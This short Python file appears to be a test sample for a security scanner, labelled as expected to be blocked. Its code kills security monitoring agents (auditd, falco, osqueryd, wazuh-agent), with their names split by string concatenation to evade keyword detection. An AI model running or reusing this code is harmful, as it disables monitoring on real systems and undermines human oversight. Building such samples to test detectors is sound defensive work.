# expect: BLOCKED category: disable_security variant-of: risky/disable_security/kill_agents_psutil.py technique: alias+concat
import psutil as _m0
AGENTS = {'au' + 'di' + 'td', 'f' + 'a' + 'l' + 'c' + 'o', 'os' + 'qu' + 'er' + 'yd', 'waz' + 'uh-' + 'age' + 'nt'}
for proc in _m0.process_iter(['n' + 'a' + 'm' + 'e']):
    if proc.info['n' + 'a' + 'm' + 'e'] in AGENTS:
        proc.kill()
